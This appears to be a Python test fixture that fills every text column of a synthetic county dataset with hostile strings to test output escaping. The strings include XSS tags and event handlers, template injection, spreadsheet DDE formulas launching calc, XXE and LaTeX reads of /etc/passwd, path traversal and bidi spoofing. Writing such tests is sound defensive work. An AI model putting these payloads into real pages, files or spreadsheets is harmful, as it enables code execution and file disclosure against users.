"""Texts that try to be more than text, put into every text field that data can bring, as the tables declare them."""

from __future__ import annotations

import dataclasses
from types import MappingProxyType
from typing import TYPE_CHECKING, Final

import pandas as pd

from sufficiency.model.tables import TABLES
from tests.released_fixture import make_inputs_facts, make_released

if TYPE_CHECKING:
    from collections.abc import Iterable

    from sufficiency.model.results import Inputs, Released

YEARS: Final = (2025, 2028, 2031)
RAN = "window.__ran=1"
PAYLOADS: Final = (
    # elements and event handlers
    f"<script>{RAN}</script>",
    f"<ScRiPt>{RAN}</sCrIpT >",
    f"</script><script>{RAN}</script>",
    f"<script src=//ran.invalid/x.js></script>{RAN}",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<img src=x onerror={RAN}>",
    f'<img src="x" onerror="alert({RAN})">',
    f"<img/src=`x`onerror={RAN}>",
    "<img src=https://ran.invalid/pixel.png>",
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<math><mtext></table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RAN}&gt;\">",
    f"<body onload={RAN}>",
    f"<details open ontoggle={RAN}><summary>x</summary></details>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RAN}></iframe>",
    f"<object data='data:text/html,<script>{RAN}</script>'></object>",
    f"<input autofocus onfocus={RAN}>",
    f"<video><source onerror={RAN}></video>",
    f"<a href=\"javascript:{RAN}\" id=ran>press</a>",
    "<meta http-equiv=refresh content='0;url=https://ran.invalid/'>",
    "<base href=https://ran.invalid/>",
    "<link rel=stylesheet href=https://ran.invalid/x.css>",
    "<form action=https://ran.invalid/><button>x</button></form>",
    "<b>bold</b><h1>big</h1><plaintext>",
    f"--><script>{RAN}</script><!--",
    f"]]><script>{RAN}</script><![CDATA[",
    # out of an attribute, a string, a template
    f"' onmouseover='{RAN}' x='",
    f'" onfocus="{RAN}" autofocus tabindex=1 x="',
    f"';{RAN};//",
    f'";{RAN};//',
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RAN}&lt;/script&gt; &#60;b&#62; &amp;",
    f"%3Cscript%3E{RAN}%3C/script%3E",
    f"\uff1cscript\uff1e{RAN}\uff1c/script\uff1e",
    f"`${{{RAN}}}`",
    "{{ 7*7 }}{{ this.__class__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# note #}{%- raw -%}",
    "__proto__",
    f"javascript:{RAN}",
    f"data:text/html;base64,PHNjcmlwdD4{RAN}",
    # style sheets
    f"</style><script>{RAN}</script>",
    "x:expression(alert(1));background:url(https://ran.invalid/x.png)",
    "@import 'https://ran.invalid/x.css';",
    # typesetters and office files
    '#eval("1+1")',
    '#read("/etc/passwd")',
    '#image("/etc/hostname") #link("https://ran.invalid")[x] $x^2$ @ref <label> _a_ *b*',
    r"\input{/etc/passwd} \write18{id} $\frac{1}{2}$ 50% of £5 & x_1^2 ~",
    "[press](javascript:alert(1)) ![x](https://ran.invalid/x.png) # *big* `code`",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    '</w:t></w:r><w:r><w:instrText>INCLUDETEXT "c:\\\\x"</w:instrText></w:r><w:r><w:t>',
    '{ HYPERLINK "https://ran.invalid" } { DDEAUTO c:\\\\x.exe } MERGEFIELD',
    # spreadsheets
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://ran.invalid/?x="&A1,"press")',
    '=IMPORTXML("https://ran.invalid","//a")',
    '=DDE("cmd";"/C calc";"x")',
    " \t=1+1",
    "\uff1d1+1",
    '","=1+1","',
    "'=1+1",
    # names of files
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\Windows\\x",
    "CON",
    "name.html\x00.exe",
    "https://ran.invalid/",
    # letters that are more than letters
    "one\u2028two\u2029three",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "zero\u200bwidth\u200d\ufeff",
    "e\u0301\u0301\u0301\u0301 Ǆ ﬁ ß İ ı",
    "👩‍🏫🏫 \U0001f1ec\U0001f1e7 \U0001f9d1\U0001f3fd‍🦽",
    "العربية עברית 日本語",
    "line\r\nbreak\ttab",
    "long " + "x" * 1200,
)  # fmt: skip

# What programs look up and people do not write, though the tables call it text.
_LOOKED_UP: Final = {"measure", "department", "value", "column"}
_NAMES: Final = {
    "area_name", "district_name", "cluster_name", "home_area_name", "setting_area_name",
}  # fmt: skip


def is_id(name: str) -> bool:
    """Return whether a column holds an id: those that people write are checked where they are read."""
    return name == "id" or name.endswith(("_id", "_ids"))


def text_columns() -> dict[str, tuple[str, ...]]:
    """Return the columns of free text of every table, ids and what is looked up apart, as the tables declare them."""
    out = {
        name: tuple(
            c.name for c in table.columns if c.kind == "text" and not is_id(c.name) and c.name not in _LOOKED_UP
        )
        for name, table in TABLES.items()
    }
    return {name: columns for name, columns in out.items() if columns}


def dealt(number: int, count: int, first: int = 0) -> str:
    """Return the text of one of so many rows: together they hold every payload, each row as few as can be."""
    each = range(-(-len(PAYLOADS) // count))
    return " ".join(PAYLOADS[(first + number + step * count) % len(PAYLOADS)] for step in each)


def _texts_of(values: pd.Series, first: int) -> pd.Series:
    """Return a payload for each row, the same for rows that say the same."""
    known = sorted({str(value) for value in values.dropna()})
    if len(known) < 2:
        return pd.Series(
            [dealt(row, len(values), first) for row in range(len(values))], index=values.index, dtype=object
        )
    place = {value: number for number, value in enumerate(known)}
    return values.map(lambda value: value if pd.isna(value) else dealt(place[str(value)], len(known), first)).astype(
        object
    )


def _hostile_frame(frame: pd.DataFrame, name: str, first: int, areas: dict[str, str]) -> pd.DataFrame:
    """Return a frame with payloads in its columns of text, those among them that it lacks."""
    out = frame.copy()
    if out.empty:
        return out
    declared = set(text_columns().get(name, ()))
    anywhere = {column for columns in text_columns().values() for column in columns}
    codes = {c.name for table in TABLES.values() for c in table.columns if c.kind in ("code", "codes")}
    free = (declared or (anywhere - codes)) - _LOOKED_UP
    written = {
        c for c in out.columns if out[c].dtype == object and (str(c).endswith("_name") or c in ("reason_text", "homes"))
    }
    for number, column in enumerate(sorted(free | written | declared - _LOOKED_UP)):
        if column in _NAMES and column in out:
            out[column] = [areas.get(str(value), value) for value in out[column]]
        elif column in out:
            out[column] = _texts_of(out[column], first + number)
        elif column in declared:
            out[column] = [dealt(row, len(out), first + number) for row in range(len(out))]
    return out


def some_years(released: Released) -> Released:
    """Return the tables with two policies and three of their years: enough for every text of them."""
    tables, hidden = {}, {}
    for name, frame in released.tables.items():
        kept = pd.Series(data=True, index=frame.index)
        for column, codes in (("year", YEARS), ("policy", ("optimal", "nearest", ""))):
            kept &= frame[column].isin(codes) if column in frame and name != "phase_transfers" else True
        tables[name], hidden[name] = (
            frame[kept].reset_index(drop=True),
            released.hidden[name][kept].reset_index(drop=True),
        )
    return dataclasses.replace(released, tables=MappingProxyType(tables), hidden=MappingProxyType(hidden))


def hostile_bundle(first: int = 0) -> tuple[Released, Inputs]:
    """Return the synthetic county with a payload in every text of its tables, scenarios and parameters.

    Parameters
    ----------
    first
        Which payload comes first where a field has fewer rows than there are payloads.
    """
    inputs, released = make_inputs_facts(), some_years(make_released())
    known = sorted(set(inputs.areas["area_name"]))
    areas = {name: f"{dealt(number, len(known), first)} ({number})" for number, name in enumerate(known)}
    frames = {
        field.name: _hostile_frame(value, field.name, first, areas)
        for field in dataclasses.fields(inputs)
        if isinstance(value := getattr(inputs, field.name), pd.DataFrame)
    }
    roads = dataclasses.replace(
        inputs.roads,
        nodes=_hostile_frame(inputs.roads.nodes, "road_nodes", first, areas),
        edges=_hostile_frame(inputs.roads.edges, "road_edges", first, areas),
        attribution=dealt(0, 1, first),
    )
    scenarios = {}
    for number, name in enumerate([*inputs.scenarios, "hostile", "hostile-2"]):
        plain = inputs.scenarios.get(name, inputs.scenarios["programme"])
        said = {key: f"{dealt(number, 5, first + place)} ({number})" for place, key in enumerate(texts_of(plain))}
        scenarios[name] = dataclasses.replace(plain, **(said | {"scenario_id": name}))
    tables, hidden = {}, {}
    for name, frame in released.tables.items():
        more, mask = frame, released.hidden[name]
        if "scenario_id" in frame and name != "comparison_area":
            chosen = frame["scenario_id"] == "programme"
            extra = [frame[chosen].assign(scenario_id=new) for new in ("hostile", "hostile-2")]
            more = pd.concat([frame, *extra], ignore_index=True)
            mask = pd.concat([mask, mask[chosen], mask[chosen]], ignore_index=True)
        tables[name] = _hostile_frame(more, name, first, areas)
        hidden[name] = mask.reindex(columns=tables[name].columns, fill_value=False)
    parameters = inputs.parameters
    assumptions = {
        name: dataclasses.replace(one, **{k: dealt(n, len(parameters.assumptions), first + p)
                                          for p, k in enumerate(("unit", "source", "date", "effect"))})
        for n, (name, one) in enumerate(parameters.assumptions.items())
    }  # fmt: skip
    parameters = dataclasses.replace(
        parameters,
        area_name=dealt(0, 1, first),
        illustrative_note=dealt(0, 1, first + 1),
        assumptions=MappingProxyType(assumptions),
    )
    return (
        dataclasses.replace(released, tables=MappingProxyType(tables), hidden=MappingProxyType(hidden)),
        dataclasses.replace(
            inputs, **frames, roads=roads, scenarios=MappingProxyType(scenarios), parameters=parameters
        ),
    )


def texts_of(bundle: object, besides: Iterable[str] = ("scenario_id", "based_on")) -> list[str]:
    """Return the names of the plain texts of a frozen bundle."""
    return [
        field.name
        for field in dataclasses.fields(bundle)
        if isinstance(getattr(bundle, field.name), str) and field.name not in set(besides)
    ]


def every_text() -> tuple[pd.DataFrame, pd.DataFrame]:
    """Return one table with a column for every text column of every table and a row for every payload, and its mask."""
    names = [f"{table}.{column}" for table, columns in text_columns().items() for column in columns]
    frame = pd.DataFrame(dict.fromkeys(names, PAYLOADS))
    return frame, pd.DataFrame(data=False, index=frame.index, columns=frame.columns)
